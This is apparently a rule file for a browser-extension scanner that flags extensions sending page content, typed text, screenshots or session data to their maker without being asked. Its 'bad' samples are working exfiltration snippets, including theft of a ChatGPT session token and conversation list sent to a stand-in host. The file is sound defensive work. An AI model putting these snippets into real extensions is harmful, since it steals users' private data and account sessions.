import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { sample } from '../../testing/sample.ts';
import { defineRule } from '../../rule.ts';
import { isTakenToMaker } from '../../verdict/isTakenToMaker.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';

const NOTES = { host_permissions: ['https://api.notes.example/*'] };
const SEND = 'fetch("https://api.notes.example/in", { method: "POST", body: DATA })';
const send = (data: string): string => SEND.replace('DATA', data);
const RELAY = `chrome.runtime.onMessage.addListener((m) => { if (m.text) ${send('m.text')}; });`;

export default defineRule({
  id: 'content-to-maker',
  title: 'Sends what pages show or people type to its maker, unasked',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Text of pages, typed text, the clipboard, screenshots or sound leave the browser by themselves. Mail, bank pages and passwords look like anything else to such code. What the maker does with them cannot be seen in it.',
  remedy:
    'Work on the device, or send only what the user asked about with a click. Where more must leave, ask first in plain words, off by default.',
  cap: { grade: 'D', reason: 'its maker receives what pages show or people type, unasked', from: 'high' },
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
      isTakenToMaker(facts, flow) ? sendingWeight(facts, flow) : undefined,
    ),
  examples: {
    bad: [
      sample({ manifest: NOTES, content: `setTimeout(() => { ${send('document.body.innerText')}; }, 2000);` }),
      sample({
        manifest: NOTES,
        content: 'document.addEventListener("change", (e) => chrome.runtime.sendMessage({ text: e.target.value }));',
        background: RELAY,
      }),
      sample({
        manifest: { ...NOTES, permissions: ['tabs'] },
        background: `chrome.tabs.onActivated.addListener(() => chrome.tabs.captureVisibleTab(null, {}, (png) => { ${send('png')}; }));`,
      }),
      // What is searched for, on whatever service.
      sample({
        manifest: { ...NOTES, content_scripts: [{ matches: ['https://www.google.com/search*'], js: ['content.js'] }] },
        files: { 'content.js': `setTimeout(() => { ${send('document.querySelector("h3").innerText')}; }, 2000);` },
      }),
      // What the site of an assistant answers its signed-in user: who they are, and the token of their session.
      sample({
        manifest: { ...NOTES, content_scripts: [{ matches: ['https://chatgpt.com/*'], js: ['content.js'] }] },
        files: {
          'content.js':
            'fetch("/api/auth/session").then((r) => r.json()).then((s) => chrome.runtime.sendMessage({ text: s.accessToken }));',
        },
        background: RELAY,
      }),
      sample({
        manifest: { host_permissions: [...NOTES.host_permissions, 'https://chatgpt.com/*'], permissions: ['alarms'] },
        background: `chrome.alarms.onAlarm.addListener(async () => { const list = await (await fetch("https://chatgpt.com/backend-api/conversations")).json(); ${send('JSON.stringify(list)')}; });`,
      }),
    ],
    good: [
      // The site that it is for answers what is no letter or chat.
      sample({
        manifest: { ...NOTES, content_scripts: [{ matches: ['https://www.shop.example/*'], js: ['content.js'] }] },
        files: {
          'content.js': `fetch("/api/prices").then((r) => r.json()).then((prices) => { ${send('prices.lowest')}; });`,
        },
      }),
      // The menu's click asks for it.
      sample({
        manifest: { ...NOTES, permissions: ['contextMenus', 'scripting'] },
        background: `chrome.contextMenus.onClicked.addListener(async (info, tab) => { const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => document.body.innerText }); ${send('result')}; });`,
      }),
      // What the site that it is for shows.
      sample({
        manifest: { ...NOTES, content_scripts: [{ matches: ['https://www.shop.example/*'], js: ['content.js'] }] },
        files: { 'content.js': `setTimeout(() => { ${send('document.querySelector(".price").innerText')}; }, 2000);` },
      }),
      sample({ manifest: NOTES, content: `setTimeout(() => { ${send('"ready"')}; }, 2000);` }),
    ],
  },
});
